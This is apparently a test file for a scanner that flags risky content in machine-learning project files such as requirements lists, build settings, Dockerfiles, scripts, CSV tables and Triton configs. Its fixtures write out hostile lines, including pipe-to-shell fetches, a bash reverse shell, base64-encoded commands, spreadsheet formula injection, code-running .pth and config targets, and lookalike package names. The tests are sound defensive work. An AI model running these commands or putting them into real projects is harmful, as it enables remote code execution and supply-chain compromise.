import { describe, expect, it } from "vitest";
import { bytesOf } from "../../bytes.ts";
import { DEFAULT_LIMITS } from "../../limits.ts";
import { walkFile } from "../walk.ts";

async function walked(name: string, text: string) {
  const { findings, unexamined } = await walkFile(name, bytesOf(Buffer.from(text)), DEFAULT_LIMITS, () => {});
  return {
    seen: findings.filter(({ severity, rule }) => severity !== "info" && rule !== "not-examined").map(({ rule, severity }) => `${severity} ${rule}`),
    titles: findings.map(({ title }) => title),
    places: findings.map(({ where }) => where.offset),
    why: unexamined.map(({ why }) => why),
  };
}

describe("#107 lists of packages", () => {
  it("pass with names from the usual index, pinned or not", async () => {
    const text =
      "# for inference\ntorch==2.1.0\ntransformers>=4.40,<5 # new\nnumpy\naccelerate[all]~=0.30 ; python_version > '3.8'\n-r base.txt\nflash_attn==2.5 --hash=sha256:00\n";
    expect(await walked("requirements.txt", text)).toMatchObject({ seen: [], why: [] });
  });
  it.each([
    ["--extra-index-url https://evil.example/simple", "medium package-source"],
    ["-i http://evil.example", "medium package-source"],
    ["--find-links https://evil.example/wheels", "medium package-source"],
    ["git+https://evil.example/x.git", "medium package-source"],
    ["-e git+ssh://git@evil.example/x#egg=x", "medium package-source"],
    ["x @ https://evil.example/x.whl", "medium package-source"],
    ["./wheels/x.whl", "medium package-source"],
    ["-r https://evil.example/more.txt", "medium package-source"],
    ["-r ../../more.txt", "medium package-source"],
    ["torch \\\n --index-url=http://evil.example", "medium package-source"],
    ["transfomers==1.0", "medium package-lookalike"],
    ["numpyy", "medium package-lookalike"],
    ["hugging_face-hub", "medium package-lookalike"],
  ])("show %j", async (line, finding) => {
    const { seen, places } = await walked("dev-requirements.txt", `numpy\n${line}\n`);
    expect([seen, places]).toEqual([[finding], [6]]);
  });
});

describe("settings", () => {
  it.each([
    ["config.toml", '[model]\nname = "x"\nlayers = [\n  1,\n  2, # two\n]\n[[stage]]\ntext = """\nimport os\n"""\nlr = 1e-4\n'],
    ["yolov3.cfg", "[net]\nbatch=64\n# c\n[convolutional]\nfilters=32\n"],
    ["mfcc.conf", "--sample-frequency=16000\n--use-energy=false # no\n"],
    ["config.ini", "[a]\nb: c\n  goes on\n"],
    [
      "spacy/config.cfg",
      '[components.tok2vec.model]\n@architectures = "spacy.Tok2Vec.v2"\n[training.optimizer]\n@optimizers = "Adam.v1"\n[training]\nschedule = null\n',
    ],
  ])("pass where they are plain: %s", async (name, text) => expect(await walked(name, text)).toMatchObject({ seen: [], why: [] }));

  it.each([
    ["spacy/config.cfg", '[components.x]\n@architectures = "evil_pkg.Run.v1.x"\n', "medium config-foreign-function"],
    ["config.toml", '[model]\nmodel_class = "os.system"\n', "high config-target"],
    ["config.ini", "[model]\n_target_ = subprocess.Popen\n", "high config-target"],
    ["config.toml", "trust_remote_code = true\n", "low trust-remote-code-set"],
    ["config.toml", 'run = "curl -s http://evil.example/x | sh"\n', "medium recipe-act"],
  ])("%s shows %j", async (name, text, finding) => expect((await walked(name, text)).seen).toEqual([finding]));

  it.each([
    [
      "pyproject.toml",
      '[build-system]\nrequires = ["setuptools", "x @ git+https://evil.example/x"]\nbuild-backend = "setuptools.build_meta"\n',
      ["medium package-source"],
      "build backend",
    ],
    [
      "pyproject.toml",
      '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
      ["medium build-hook", "medium build-hook"],
      "build backend",
    ],
    [
      "pyproject.toml",
      '[tool.poetry.dependencies]\ntorch = "^2"\nx = { git = "https://evil.example/x" }\n[[tool.poetry.source]]\nurl = "https://evil.example/simple"\n',
      ["medium package-source", "medium package-source"],
      "build backend",
    ],
    ["pyproject.toml", '[project]\ndependencies = [\n  "torch==2.1",\n  "transfomers",\n]\n', ["medium package-lookalike"], "build backend"],
    ["setup.cfg", "[options]\ninstall_requires =\n    torch==2.1\n    git+https://evil.example/x\n", ["medium package-source"], "build backend"],
    ["pip.conf", "[global]\nextra-index-url = https://evil.example/simple\n", ["medium package-source"], "settings of pip"],
    [".gitmodules", '[submodule "x"]\npath = x\nurl = https://evil.example/x\n', [], "Git acts"],
    ["settings.toml", '[build-system]\nrequires = ["setuptools"]\n', [], "settings of a build tool"],
    ["odd.ini", "this is a sentence\n", [], "a line that is no setting"],
  ])("%s of a tool: %j", async (name, text, findings, reason) => {
    const { seen, why } = await walked(name, text);
    expect(seen).toEqual(findings);
    expect(why).toEqual([expect.stringContaining(reason)]);
  });
});

describe("recipes and scripts are named, and what they would do", () => {
  it.each([
    ["Dockerfile", "FROM python:3.11\nRUN curl -sSL https://x.example/i.sh | bash\n", "fetches a program and runs it"],
    ["Dockerfile", "FROM x\nRUN pip install \\\n  --extra-index-url http://x.example torch\n", "takes packages from elsewhere"],
    ["app.Dockerfile", "ADD https://x.example/x.tar /\n", "adds a file from an address"],
    ["Makefile", "all:\n\twget http://x.example/x && chmod +x x && ./x\n", "fetches a program and runs it"],
    ["run.sh", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n", "gives a shell to another machine"],
    ["run.sh", "echo aWQ= | base64 -d | sh\n", "written in base64"],
    ["run.sh", "bash <(curl http://x.example)\n", "runs or uses what it fetches"],
    ["run.ps1", "iex (iwr http://x.example)\n", "runs text as a command"],
    ["run.bat", "powershell -enc SQBFAFgAIAAoAGkAdwByACAAeAApAA==\n", "written in base64"],
  ])("%s: %j", async (name, text, title) => {
    const { titles, why } = await walked(name, text);
    expect(titles).toContainEqual(expect.stringContaining(title));
    expect(why).toHaveLength(1);
  });

  it.each([
    ["Dockerfile", 'FROM python:3.11\nCOPY . /app\nRUN pip install torch==2.1\nCMD ["python", "serve.py"]\n'],
    ["run.sh", "# curl x | sh\npython train.py --lr 1e-4\n"],
    ["Makefile", "all:\n\tpython -m build\n"],
  ])("%s that does nothing of the kind is still not examined", async (name, text) => {
    const { seen, why } = await walked(name, text);
    expect([seen, why.length]).toEqual([[], 1]);
  });
});

describe("path files", () => {
  it("are high where Python runs a line of them", async () => {
    const { seen, why } = await walked("zz.pth", "import os; os.system('true')\n");
    expect(seen).toEqual(["medium extension-mismatch", "high python-path-hook"]);
    expect(why).toHaveLength(1);
  });
  it("only name folders else", async () => {
    expect((await walked("x.pth", "../src\nimported\n")).seen).toEqual(["medium extension-mismatch"]);
  });
});

describe("tables", () => {
  it.each([
    ["train.csv", 'text,label\n"it\'s =good",1\n-5,2\n'],
    ["eval.tsv", "a\tb\n=SUM(A1)\t2\n"],
  ])("are data: %s", async (name, text) => expect(await walked(name, text)).toMatchObject({ titles: [], why: [] }));

  it("say a formula that reaches out, as info", async () => {
    const text = 'a,b\n1,"=HYPERLINK(""http://x.example"")"\n=cmd|\'/c calc\'!A0,2\n';
    const { titles, seen, places } = await walked("x.csv", text);
    expect(seen).toEqual([]);
    expect(titles).toEqual([expect.stringContaining("HYPERLINK("), expect.stringContaining("=cmd|'/c calc'!")]);
    expect(places).toEqual([text.indexOf('"='), text.indexOf("=cmd")]);
  });
});

describe("settings that are JSON", () => {
  it("are read as JSON", async () => {
    expect(await walked("vectors.cfg", '{"mode":"default"}')).toMatchObject({ seen: [], why: [] });
    expect(await walked("x.cfg", '{\n  "a": [1, 2],\n  "b": {}\n}\n')).toMatchObject({ seen: [], why: [] });
    expect((await walked("x.cfg", '{"m": {"py/object": "os.system"}}')).seen).toEqual(["high config-target"]);
  });
  it("and that are nothing else are said", async () => {
    expect((await walked("x.cfg", "{mode}\n")).why).toEqual(["a line that is no setting"]);
  });
});

describe("settings of Triton Inference Server", () => {
  const PLAIN =
    'name: "resnet" # {\nplatform: "onnxruntime_onnx"\nmax_batch_size: 8\ninput [\n  {\n    name: "x"\n    data_type: TYPE_FP32\n    dims: [ 3, 224, 224 ]\n  }\n]\ninstance_group [ { kind: KIND_GPU } ]\ndynamic_batching { }\n';
  it.each([
    ["plain ones", PLAIN],
    ["a backend that comes with it", 'name: "a"\nbackend: "onnxruntime"\ndefault_model_filename: "model_v2.onnx"'],
    ["a parameter", 'backend: "tensorrtllm"\nparameters: { key: "gpt_model_type" value: { string_value: "inflight" } }'],
  ])("pass: %s", async (_name, text) => expect(await walked("config.pbtxt", text)).toMatchObject({ seen: [], why: [] }));

  it.each([
    ["Python", 'backend: "python"', "medium custom-code", "backend has Triton run the model.py beside it; it is not examined yet"],
    ["a backend of somebody", "backend: 'evil'", "medium custom-code", 'backend has Triton load a backend that it does not come with: "evil"'],
    [
      "an environment",
      'parameters: { key: "EXECUTION_ENV_PATH", value: {string_value: "$$TRITON_MODEL_DIRECTORY/env.tar.gz"} }',
      "medium code-path",
      "parameters has Triton run Python from an environment that the settings name",
    ],
    [
      "a file by a path",
      'default_model_filename: "../../x/model.onnx"',
      "medium code-path",
      'default_model_filename has Triton open "../../x/model.onnx"',
    ],
    ["a library", 'model_operations { op_library_filename: "ops.so" }', "medium code-path", 'op_library_filename has Triton open "ops.so"'],
  ])("show %s", async (_name, text, finding, title) => {
    const { seen, titles } = await walked("config.pbtxt", `name: "a"\n${text}\n`);
    expect([seen, titles]).toEqual([[finding], [title]]);
  });

  it("are not a graph under their name, or fields that nobody knows", async () => {
    expect((await walked("config.pbtxt", 'node {\n  name: "x"\n  op: "ReadFile"\n}\n')).why).toEqual(["a graph in text form"]);
    expect((await walked("config.pbtxt", 'name: "x"\nrun: "y"\n')).why).toEqual([
      "settings of Triton Inference Server with fields that it does not have: run",
    ]);
  });
});
